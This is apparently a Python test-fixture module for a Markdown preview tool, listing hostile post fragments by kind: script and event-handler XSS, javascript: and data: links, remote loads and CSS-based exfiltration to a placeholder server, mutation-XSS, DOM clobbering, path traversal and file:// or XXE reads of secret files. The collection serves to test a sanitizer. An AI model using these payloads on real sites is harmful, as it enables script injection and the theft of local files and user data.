"""Fragments of posts that try to run, to send, to read or to leave.

``URL`` stands for an address of a server that must hear nothing, ``JS`` for a script that marks
the page and calls that server, ``SECRET`` for a text file outside the project, ``PICTURE`` for an
image outside it.
"""

from __future__ import annotations

SCRIPTS = {
    "script": "<script>JS</script>",
    "script-src": '<script src="URL.js"></script>',
    "script-upper": "<SCRIPT>JS</SCRIPT>",
    "script-broken": "<script/x>JS</script>",
    "script-nested": "<scr<script>ipt>JS</scr</script>ipt>",
    "script-unclosed": '<script src="URL.js">',
    "script-module": '<script type="module">import "URL.js"; JS</script>',
    "script-comment": "<!--><script>JS</script>-->",
    "script-cdata": "<![CDATA[<script>JS</script>]]>",
    "script-null": "<scr\0ipt>JS</scr\0ipt>",
    "script-entity": "&lt;script&gt;JS&lt;/script&gt;<p>&#60;script&#62;JS</p>",
    "script-in-title": "<title><script>JS</script></title>",
    "script-in-textarea": "<textarea><script>JS</script></textarea><script>JS</script>",
    "script-in-noscript": '<noscript><p title="</noscript><script>JS</script>"></noscript>',
    "importmap": '<script type="importmap">{"imports":{"a":"URL.js"}}</script>',
    "speculation": '<script type="speculationrules">{"prefetch":[{"urls":["URL"]}]}</script>',
    "template": "<template shadowrootmode=open><script>JS</script></template>",
}

HANDLERS = {
    "img-onerror": '<img src="nothing.png" onerror="JS">',
    "img-onload": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="JS">',
    "svg-onload": '<svg onload="JS"><rect width="9" height="9"/></svg>',
    "body-onload": '<body onload="JS">',
    "details-ontoggle": '<details open ontoggle="JS"><summary>x</summary>y</details>',
    "input-autofocus": '<input autofocus onfocus="JS">',
    "video-onerror": '<video><source onerror="JS" src="nothing.webm"></video>',
    "marquee": '<marquee onstart="JS">x</marquee>',
    "animation": '<p style="animation:a 1s" onanimationstart="JS">x</p>',
    "pointer": '<p onpointerenter="JS" onmouseover="JS" onclick="JS">x</p>',
    "handler-slash": '<img/src="nothing.png"/onerror="JS">',
    "handler-newline": '<img src="nothing.png"\nonerror\n=\n"JS">',
    "handler-backtick": "<img src=`nothing.png` onerror=`JS`>",
    "custom-element": '<x-y onclick="JS" style="display:block">x</x-y>',
    "handler-dialog": '<dialog open><button onclick="JS">x</button></dialog>',
    "handler-popover": '<button popovertarget="p">x</button><p popover id="p" ontoggle="JS">x</p>',
    "handler-scroll": '<p onscrollsnapchange="JS" oncontentvisibilityautostatechange="JS">x</p>',
    "handler-transition": '<p style="transition:color 1s" ontransitionend="JS" tabindex=1>x</p>',
    "handler-marked": '<mark on="tap:JS" data-bind="click: JS" x-data="JS" @click="JS">x</mark>',
    "contenteditable": '<p contenteditable onbeforeinput="JS" autofocus>x</p>',
}

ADDRESSES = {
    "javascript-link": '<a href="javascript:JS">x</a>',
    "javascript-markdown": "[x](javascript:JS)",
    "javascript-case": '<a href="  JaVaScRiPt:JS">x</a>',
    "javascript-tab": '<a href="java&#9;script:JS">x</a>',
    "javascript-entity": '<a href="&#106;avascript:JS">x</a>',
    "javascript-control": '<a href="\x01\x1fjava\nscript\r:JS">x</a>',
    "javascript-colon": '<a href="javascript&colon;JS">x</a><a href="javascript&#x3a;JS">x</a>',
    "javascript-newline-entity": '<a href="java&NewLine;script&Tab;:JS">x</a>',
    "javascript-image": '<img src="javascript:JS"><video src="javascript:JS"></video>',
    "javascript-autolink": "<javascript:JS>",
    "vbscript": '<a href="vbscript:JS">x</a>',
    "data-link": '<a href="data:text/html,<script>JS</script>">x</a>',
    "data-markdown": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "blob-link": '<a href="blob:null/1">x</a>',
    "file-link": '<a href="file://SECRET">x</a>',
    "view-source": '<a href="view-source:file://SECRET">x</a>',
    "chrome": '<a href="chrome://version">x</a>',
    "target-blank": '<a href="URL" target="_blank">x</a>',
    "link-ping": '<a href="#here" ping="URL">x</a>',
    "data-svg-link": "<a href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    "onload='JS'/>\">x</a>",
    "data-xml-link": '<a href="data:application/xhtml+xml,<script>JS</script>">x</a>',
    "link-download": '<a href="SECRET" download="x">x</a>',
    "form": '<form action="URL"><input name="a" value="b"><button>x</button></form>',
    "formaction": '<button formaction="URL" form="f">x</button><form id="f"></form>',
    "form-javascript": '<form action="javascript:JS"><input type="submit"></form>',
    "area": '<img usemap="#m" src="nothing.png"><map name="m"><area href="javascript:JS"></map>',
    "base": '<base href="URL/"><img src="a.png">',
    "base-javascript": '<base href="javascript:JS//"><a href="#x">x</a>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=URL">',
    "meta-refresh-data": '<meta http-equiv="refresh" content="0;url=data:text/html,x">',
    "meta-policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "meta-cookie": '<meta http-equiv="Set-Cookie" content="a=b">',
}

LOADS = {
    "image": "![x](URL.png)",
    "image-html": '<img src="URL.png">',
    "image-no-scheme": '<img src="//127.0.0.1:PORT/NAME.png">',
    "image-backslash": '<img src="\\\\127.0.0.1:PORT/NAME.png">',
    "image-tab": '<img src="ht\ttp://127.0.0.1:PORT/NAME.png">',
    "srcset": '<img src="nothing.png" srcset="URL.png 1x, URL2.png 2x">',
    "picture": '<picture><source srcset="URL.png"><img src="nothing.png"></picture>',
    "lazy": '<img loading="lazy" src="URL.png">',
    "video": '<video src="URL.webm" poster="URL.png" autoplay></video>',
    "audio": '<audio src="URL.ogg" autoplay preload="auto"></audio>',
    "track": '<video src="a.webm"><track default src="URL.vtt"></video>',
    "preconnect": '<link rel="preconnect" href="URL">',
    "dns-prefetch": '<link rel="dns-prefetch" href="URL">',
    "prefetch": '<link rel="prefetch" href="URL"><link rel="prerender" href="URL">',
    "preload": '<link rel="preload" as="image" href="URL.png">',
    "stylesheet": '<link rel="stylesheet" href="URL.css">',
    "icon": '<link rel="icon" href="URL.png"><link rel="manifest" href="URL.json">',
    "html-import": '<link rel="import" href="URL">',
    "iframe": '<iframe src="URL"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>JS</script>"></iframe>',
    "iframe-javascript": '<iframe src="javascript:JS"></iframe>',
    "frameset": '<frameset><frame src="URL"></frameset>',
    "object": '<object data="URL.swf"><param name="a"></object>',
    "embed": '<embed src="URL.pdf">',
    "applet": '<applet code="a" codebase="URL"></applet>',
    "input-image": '<input type="image" src="URL.png">',
    "td-background": '<table background="URL.png"><tr><td background="URL.png">x</table>',
    "body-background": '<body background="URL.png">',
    "stylesheet-alternate": '<link rel="alternate stylesheet" href="URL.css" onload="JS">',
    "module-preload": '<link rel="modulepreload" href="URL.js"><link rel="search" href="URL.xml">',
    "compression-dictionary": '<link rel="compression-dictionary" href="URL">',
    "image-sizes": '<img sizes="100vw" imagesrcset="URL.png" srcset="URL.png 9w" lowsrc="URL.png">',
    "image-attribution": '<img src="nothing.png" attributionsrc="URL"><a attributionsrc="URL">',
    "image-userinfo": '<img src="http://me:secret@127.0.0.1:PORT/NAME.png">',
    "image-websocket": '<img src="ws://127.0.0.1:PORT/NAME"><img src="ftp://127.0.0.1:PORT/NAME">',
    "video-source": '<video controls><source src="URL.mp4" type="video/mp4"></video>',
    "video-poster-data": '<video poster="data:image/svg+xml,<svg onload=JS/>" src="URL"></video>',
    "object-data-html": '<object data="data:text/html,<script>JS</script>"></object>',
    "object-svg": '<object type="image/svg+xml" data="URL.svg"></object>',
    "embed-svg": '<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=JS/>">',
    "isindex": '<isindex action="URL"><keygen><bgsound src="URL.wav"><layer src="URL"></layer>',
    "xml-data-island": '<xml id="x" src="URL"></xml><span datasrc="#x" datafld="a"></span>',
    "portal": '<portal src="URL"></portal><fencedframe src="URL"></fencedframe>',
}

STYLES = {
    "style-import": "<style>@import 'URL.css';</style>",
    "style-font": "<style>@font-face{font-family:a;src:url(URL.woff)}*{font-family:a}</style>",
    "style-exfiltration": "<style>p[title^=a]{background:url(URL.png)}</style><p title=a>x</p>",
    "style-attribute": '<p style="background:url(URL.png)">x</p>',
    "style-image-set": "<p style=\"background-image:image-set('URL.png' 1x)\">x</p>",
    "style-list": '<ul style="list-style:url(URL.png)"><li>x</ul>',
    "style-cursor": '<p style="cursor:url(URL.png),auto">x</p>',
    "style-content": '<p style="content:url(URL.png)">x</p>',
    "style-escape": '<p style="background:u\\72l(URL.png)">x</p>',
    "style-cover": '<p style="position:fixed;inset:0;z-index:9999">All of this is ours.</p>',
    "style-expression": '<p style="width:expression(JS);behavior:url(URL);-moz-binding:url(URL)">',
    "style-background-colour": '<p style="background:red url(URL.png)">x</p>',
    "style-background-scheme": '<p style="background:url(//127.0.0.1:PORT/NAME)">x</p>',
    "style-background-variable": '<p style="--a:url(URL.png);background:var(--a)">x</p>',
    "style-background-quoted": "<p style=\"color:red;x:';background:url(URL.png);y:'\">x</p>",
    "style-border-image": '<p style="border-image:url(URL.png) 9;mask:url(URL.png)">x</p>',
    "style-cross-fade": '<p style="background:-webkit-cross-fade(url(URL.png),url(URL.png),9%)">x',
    "style-filter": '<p style="filter:url(URL.svg#a);clip-path:url(URL.svg#b)">x</p>',
    "style-font-attribute": "<p style=\"font-family:'a';src:url(URL.woff)\">x</p>",
    "style-link-attribute": '<font face="url(URL)" color="url(URL)">x</font>',
    "style-through-the-preview": '<p style="background:url(byline-preview://page/remote?post=1'
    '&url=URL.png)">x</p>',
    "style-svg": "<svg><style>@import 'URL.css'; *{fill:url(URL.svg#a)}</style></svg>",
}

FOREIGN = {
    "svg-script": "<svg><script>JS</script></svg>",
    "svg-script-href": '<svg><script href="URL.js"/><script xlink:href="URL.js"/></svg>',
    "svg-image": '<svg><image href="URL.png"/><image xlink:href="URL.png"/></svg>',
    "svg-use": '<svg><use href="URL.svg#a"/></svg>',
    "svg-use-data": "<svg><use href=\"data:image/svg+xml,<svg id='a' onload='JS'/>#a\"/></svg>",
    "svg-foreign": '<svg><foreignObject><iframe src="URL"></iframe></foreignObject></svg>',
    "svg-animate": '<svg><a><animate attributeName="href" to="javascript:JS"/></a></svg>',
    "svg-set": '<svg><set attributeName="onload" to="JS"/></svg>',
    "svg-filter": '<svg><filter id="f"><feImage href="URL.png"/></filter></svg>',
    "svg-entity": "<svg><desc><![CDATA[</desc><script>JS</script>]]></svg>",
    "svg-data-image": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    "onload='JS'><image href='URL.png'/><script>JS</script></svg>\">",
    "math-link": '<math><maction actiontype="statusline#x" href="javascript:JS">x</maction></math>',
    "math-mutation": "<math><mtext><table><mglyph><style>"
    '<img title="</style><img src=x onerror=JS>">',
    "math-annotation": '<math><annotation-xml encoding="text/html"><img src=x onerror="JS">'
    "</annotation-xml></math>",
    "math-annotation-style": '<math><annotation-xml encoding="application/xhtml+xml"><style>'
    '<img title="</style><img src=x onerror=JS>"></style></annotation-xml></math>',
    "math-annotation-text": "<math><annotation encoding='text/html'><svg><style><a id='</style>"
    "<img src=x onerror=JS>'></svg></annotation></math>",
    "math-glyphs": "<math><mtext><malignmark><table><style><!--</style><img src=x onerror=JS>-->",
    "math-xlink": '<math><mrow xlink:href="javascript:JS" xlink:actuate="onLoad">x</mrow></math>',
    "math-picture": '<math><mglyph src="URL.png" alt="x"/><mi background="URL.png">x</mi></math>',
    "mutation-nested-table": "<table><caption><svg><title><style><!--</style></title>"
    "<img src=nothing.png onerror=JS>-->",
    "mutation-title": "<svg><title><p title='</title><img src=x onerror=JS>'></title></svg>",
    "mutation-desc": "<svg><desc><b><style></desc><img src=nothing.png onerror=JS></style></desc>",
    "mutation-cdata": "<math><mi><![CDATA[ x <img src=nothing.png onerror=JS> ]]></mi></math>",
    "mutation-deep": "<math><mtext><p>" * 200 + "<style><a id='</style><img src=x onerror=JS>'>",
    "mutation-attribute": "<p id=\"</p><script>JS</script>\" title='--><script>JS</script>'>x</p>",
    "mutation-entities": '<p title="&lt;/p&gt;&lt;script&gt;JS&lt;/script&gt;">'
    "&lt;img onerror=JS></p>",
    "mutation-comment-bang": "<!--!><img src=nothing.png onerror=JS>--!><img src=x onerror=JS>",
    "mutation-noembed": "<noembed><img title='</noembed><img src=x onerror=JS>'></noembed>",
    "svg-image-sets": '<svg><image srcset="URL.png 2x"/><a ping="URL" href="#a">x</a></svg>',
    "svg-cursor": '<svg><cursor xlink:href="URL.png"/><tref xlink:href="URL.svg#a"/></svg>',
    "svg-pattern": '<svg><pattern href="URL.svg#a"/><textPath href="URL.svg#a">x</textPath></svg>',
    "svg-handler": '<svg><handler ev:event="load">JS</handler><discard onbegin="JS"/></svg>',
    "mutation-noscript": '<noscript><style></noscript><img src="nothing.png" onerror="JS">',
    "mutation-svg-style": '<svg></p><style><a id="</style><img src=nothing.png onerror=JS>">',
    "mutation-select": "<select><style></select><img src=nothing.png onerror=JS></style></select>",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>",
    "mutation-comment": "<math><style><!--</style><img title='--><img src=x onerror=JS>'>",
    "plaintext": "<plaintext><script>JS</script>",
    "xmp": "<xmp></xmp><script>JS</script>",
    "processing": "<?xml-stylesheet href='URL.css'?><?php echo 1 ?>",
    "doctype": '<!DOCTYPE html [<!ENTITY a SYSTEM "file://SECRET">]><p>&a;</p>',
    "clobbering": '<img name="createElement"><form name="body"><input name="append"></form>'
    '<img name="getElementById"><a id="byline"></a><img name="querySelectorAll">',
    "own-classes": '<div class="byline-post byline-block"><h1 class="byline-title">x</h1></div>',
    "markdown-title": '![x](nothing.png "x\\" onerror=\\"JS")',
    "markdown-alt": '![" onerror="JS](nothing.png)',
    "markdown-code": "`<script>JS</script>`\n\n    <script>JS</script>\n",
    "markdown-reference": '[x]\n\n[x]: javascript:JS "onclick=JS"\n',
}

READS = {
    "file-image": '<img src="file://PICTURE">',
    "file-text": '<iframe src="file://SECRET"></iframe><object data="file://SECRET"></object>',
    "absolute-image": "![x](PICTURE)",
    "dots": "![x](../outside/picture.png)",
    "dots-encoded": "![x](%2e%2e/outside/picture.png)",
    "dots-twice-encoded": "![x](%252e%252e/outside/picture.png)",
    "dots-slash-encoded": "![x](..%2foutside%2fpicture.png)",
    "dots-half-encoded": "![x](.%2e/outside/picture.png)",
    "dots-in-folder": "![x](nothing/../../outside/picture.png)",
    "dots-null": "![x](../outside/picture.png%00.png)",
    "dots-overlong": "![x](..%c0%af..%c0%afoutside/picture.png)",
    "dots-full-width": "![x](..／outside／picture.png)",
    "dots-backslash": "![x](..\\outside\\picture.png)",
    "symlink": "![x](link.png)",
    "symlink-folder": "![x](folder/picture.png)",
    "symlink-upper": "![x](LINK.PNG)",
    "symlink-encoded": "![x](%6cink.png)",
    "home": "![x](~/picture.png)",
    "file-case": '<img src="FiLe://PICTURE"><img src="file:PICTURE"><img src="file://localhostPICTURE">',
    "drawing-of-others": "![x](reads.svg)",
    "proc": "![x](/proc/self/environ)\n\n![x](/proc/self/root/PICTURE)",
    "text-as-image": "![x](../outside/secret.txt)",
    "text-link": '<img src="link.txt">',
    "own-scheme": '<img src="byline-preview://page/file?post=1&url=../outside/picture.png">',
    "own-scheme-case": '<img src="BYLINE-PREVIEW://PAGE/file?post=1&url=link.png">',
    "own-scheme-host": '<img src="byline-preview://other/file?post=1&url=link.png">'
    '<img src="byline-preview://page:80/file?post=1&url=link.png">'
    '<img src="byline://page/file?post=1&url=link.png">',
    "own-scheme-path": '<img src="byline-preview://page/style/../file?post=1&url=link.png">'
    '<img src="byline-preview:/page/style/%2e%2e/file?post=1&url=link.png">',
    "own-scheme-link": '<a href="byline-preview://page/style/page.css">x</a>',
    "own-scheme-remote": '<img src="byline-preview://page/remote?post=1&url=URL.png">'
    '<video poster="byline-preview://page/remote?post=1&url=URL.png"></video>',
    "resources": '<img src="qrc:///qtwebchannel/qwebchannel.js"><img src="chrome://version">',
    "own-scheme-page": '<iframe src="byline-preview://page/"></iframe>',
    "own-scheme-style": '<link rel="stylesheet" href="byline-preview://page/style/user.css">',
    "own-scheme-css": '<p style="background:url(byline-preview://page/file?post=1&url=link.png)">',
    "filesystem": '<img src="filesystem:file:///temporary/x"><img src="jar:file://PICTURE!/">',
    "device": "![x](/dev/zero)",
    "pipe": "![x](pipe.png)",
    "post-itself": '<img src="post.md"><object data="post.md"></object>',
}

# By the name of the dialect and its options: what raw Markdown can say in the others.
DIALECTS: dict[str, tuple[str, dict[str, object], str]] = {
    "goldmark raw": (
        "goldmark",
        {"unsafe": True},
        '<img src=nothing.png onerror="JS">\n\n<script>JS</script>\n\nx <b onclick="JS">y</b>\n',
    ),
    "goldmark attributes": (
        "goldmark",
        {"unsafe": True, "attribute": {"title": True, "block": True}},
        '# x {onclick="JS" style="background:url(URL.png)"}\n\nx\n{onmouseover="JS" .a}\n\n'
        '> y\n{onclick="JS"}\n',
    ),
    "goldmark links": (
        "goldmark",
        {"unsafe": True},
        "[x](<java\tscript:JS>) [y](JavaScript:JS) <javascript:JS> ![z](javascript:JS)\n\n"
        "[a](data:text/html,x) ![b](URL.png) [c]\n\n[c]: vbscript:JS\n",
    ),
    "commonmark raw": (
        "commonmark",
        {},
        '<iframe src="URL"></iframe>\n\n<svg onload="JS"></svg> <a href="javascript:JS">x</a>\n',
    ),
    "eleventy raw": (
        "eleventy",
        {},
        '<video src="URL" poster="URL"></video>\n\n<details open ontoggle="JS">x</details>\n',
    ),
    "kramdown attributes": (
        "kramdown",
        {},
        '# x\n{: onclick="JS" style="background:url(URL.png)"}\n\n'
        'a *b*{: onmouseover="JS"} [c](javascript:JS){: ping="URL"}\n\n'
        '![d](URL.png){: srcset="URL.png 2x" onerror="JS"}\n\n'
        '{:list: onclick="JS"}\n\n- e\n{:list}\n',
    ),
    "kramdown raw": (
        "kramdown",
        {},
        '<div markdown="1" onclick="JS">\n<script>JS</script>\n\n'
        '*x* <img src onerror="JS">\n</div>\n',
    ),
    "attr_list": (
        "python-markdown",
        {"extensions": ["extra", "attr_list", "md_in_html"]},
        '# x {: onclick="JS" }\n\n![y](nothing.png){: onerror="JS" srcset="URL.png" }\n\n'
        '[z](#a){: ping="URL" href="javascript:JS" }\n\n'
        '<div markdown="1" onclick="JS">\n<script>JS</script>\n</div>\n',
    ),
    "template tags": (
        "goldmark",
        {"unsafe": True, "templates": "hugo"},
        '{{< figure src="URL.png" link="javascript:JS" title="<script>JS</script>" >}}\n\n'
        '{{< x "<img src=nothing.png onerror=JS>" >}} {{% y onclick="JS" %}}\n\n'
        '{{< youtube "\\" onerror=\\"JS" >}}\n',
    ),
}

ALL = SCRIPTS | HANDLERS | ADDRESSES | LOADS | STYLES | FOREIGN | READS
